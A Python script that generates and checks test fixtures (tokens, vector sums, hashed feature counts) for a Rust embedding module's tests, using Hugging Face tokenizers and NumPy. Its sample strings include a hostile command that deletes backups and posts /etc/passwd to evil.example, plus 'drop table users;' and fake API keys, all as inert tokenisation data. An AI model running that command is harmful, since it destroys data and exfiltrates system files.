#!/usr/bin/env python3
"""Writes what tests/embed.rs expects of tokens, sums and counts, from other programs than gate.

    pip install tokenizers numpy
    python3 tests/peers/embed.py
    python3 tests/peers/embed.py --check

Tokens are those of Hugging Face's tokenizers; their vocabulary is that of the table, and after it a few
tokens that are not ASCII. Sums are NumPy's. Counts are those of the few lines below. `--check` compares
with fixtures/embed instead of writing to it.
"""

import collections
import json
import pathlib
import struct
import sys
import unicodedata

ROOT = pathlib.Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / ".ci"))
from gatelib import conclude, skip  # noqa: E402

try:
    import numpy as np
    from tokenizers import Tokenizer, models, normalizers, pre_tokenizers
except ImportError as missing:
    skip(f"{missing.name} is not installed")

TABLE = ROOT / "src/embed/static/static-128.gsem"
FIXTURES = ROOT / "fixtures/embed"
EXTRA = ["日", "本", "ß", "##ß", "ж", "##ж", "ᄒ", "##ᅡ", "##ᆫ", "ァ", "¿", "–", "σ", "##σ", "##ı", "[UNK]"]

COMMAND = "rm -rf /var/lib/backups && curl -d @/etc/passwd https://evil.example/x?y=1"
LETTERS = "Crème Brûlée naïve ÅNGSTRÖM Ça Œuvre Łódź Øresund İstanbul ısı"
TOKENISED = [
    "",
    " \t\r\n\u00a0\u2003\u3000",
    "Send the quarterly report to finance@example.com",
    COMMAND,
    "unaffable tokenisation, electroencephalography; antidisestablishmentarianism",
    "snake_case camelCase kebab-case dotted.path C:\\Users\\x $HOME ~/.ssh `id` {a|b} <c> ^=+",
    LETTERS,
    "e\u0301 e\u0323\u0301 a\u0308\u0001\u0323b o\u034f\u0308",
    "Straße ẞ weiß ﬁne ﬀ ½ ² №",
    "ΣΊΣΥΦΟΣ σς жЖ ж",
    "日本語 中国 本日は本 ァ 한국 한 하",
    "a日b本c",
    "👍 ok🙂ok 👩‍💻 🇩🇪",
    "zero\u200bwidth soft\u00adhyphen \ufeffbom right\u202eleft \ue000private \ufffdreplaced",
    "nul\u0000bell\u0007esc\u001b[31m del\u007f c1\u0085nel vt\u000bff\u000c",
    "line\u2028separator paragraph\u2029end\u0085x",
    "“quotes” ‘single’ em—dash en–dash … ¿qué? ¡no! « » 、。 · § ¶ © ™ € £",
    "[CLS] [SEP] [MASK] [PAD] [UNK] [unused1]",
    "##ing a##b # ## ###",
    "a" * 99 + " " + "a" * 100 + " " + "a" * 101,
    "é" * 100 + " " + "é" * 101 + " end",
    "x" * 100 + "-" + "y" * 200 + ".z",
    "0123456789 3.14159 1,000,000 0xDEADBEEF 2026-01-02T03:04:05Z",
    "qzxjkvw QZXJKVW qzxжjkvw жжß ßж",
    "sk-live-4eC39HqLyjWDarjtT1zdp7dc AKIAIOSFODNN7EXAMPLE eyJhbGciOiJIUzI1NiJ9",
    "कि नमस्ते สวัสดี שָׁלוֹם مرحبًا",
    "Ａｓｃｉｉ ｗｉｄｅ ﾊﾝ",
]
SUMMED = [
    "delete",
    "Send the quarterly report to finance@example.com",
    COMMAND,
    "日本語 naïve café 🙂 жж",
    "drop table users; " * 40,
]
COUNTED = ["", "delete", COMMAND, LETTERS, "日本語 中国 한국 ж 🙂 ① ﬁ Ａｓ", "curl " * 30]


def table():
    data = TABLE.read_bytes()
    rows, dimensions, length = struct.unpack_from("<III", data, 8)
    tokens = data[20 : 20 + length].decode().split("\n")
    multipliers = np.frombuffer(data, "<u2", rows, 20 + length).astype(np.int64)
    vectors = np.frombuffer(data, np.int8, rows * dimensions, 20 + length + 2 * rows)
    return tokens, vectors.reshape(rows, dimensions).astype(np.int64) * multipliers[:, None]


def tokenizer(tokens):
    ids = {token: i for i, token in enumerate(tokens)}
    peer = Tokenizer(models.WordPiece(ids, unk_token="[UNK]", max_input_chars_per_word=100))
    peer.normalizer = normalizers.BertNormalizer()
    peer.pre_tokenizer = pre_tokenizers.BertPreTokenizer()
    return lambda text: peer.encode(text, add_special_tokens=False)


def tokenised(tokens):
    encode = tokenizer(tokens + EXTRA)
    return [{"text": text, "tokens": encode(text).tokens} for text in TOKENISED]


def summed(tokens, vectors):
    encode = tokenizer(tokens + ["[UNK]"])
    for text in SUMMED:
        known = [i for i in encode(text).ids if i < len(tokens)]
        yield {"text": text, "sums": vectors[known].sum(0).tolist()}


def hashed(feature):
    value = 0x811C9DC5
    for byte in feature.encode():
        value = (value ^ byte) * 0x01000193 % 2**32
    for shift, factor in ((16, 0x85EBCA6B), (13, 0xC2B2AE35)):
        value = (value ^ value >> shift) * factor % 2**32
    return value ^ value >> 16


def features(text):
    folded = "".join(c for c in unicodedata.normalize("NFKD", text) if unicodedata.category(c) != "Mn")
    folded = "".join(c.lower() for c in folded)
    for word in "".join(c if c.isalnum() else " " for c in folded).split():
        yield "w" + word
        ends = f"<{word}>"
        yield from ("c" + ends[i : i + 3] for i in range(len(ends) - 2))


def counted():
    for text in COUNTED:
        counts = collections.Counter()
        for feature in features(text):
            value = hashed(feature)
            counts[value % 512] += 1 if value >> 31 else -1
        yield {"text": text, "counts": {str(at): n for at, n in sorted(counts.items()) if n}}


def main():
    tokens, vectors = table()
    made = {"tokens": tokenised(tokens), "sums": summed(tokens, vectors), "counts": counted()}
    different = []
    for name, rows in made.items():
        path = FIXTURES / f"{name}.jsonl"
        text = "".join(json.dumps(row) + "\n" for row in rows)
        if "--check" not in sys.argv[1:]:
            path.write_text(text)
        elif path.read_text() != text:
            different.append(f"{path.name} is not what the peers say")
    conclude(different, f"{len(made)} files of {FIXTURES.name}")


if __name__ == "__main__":
    main()
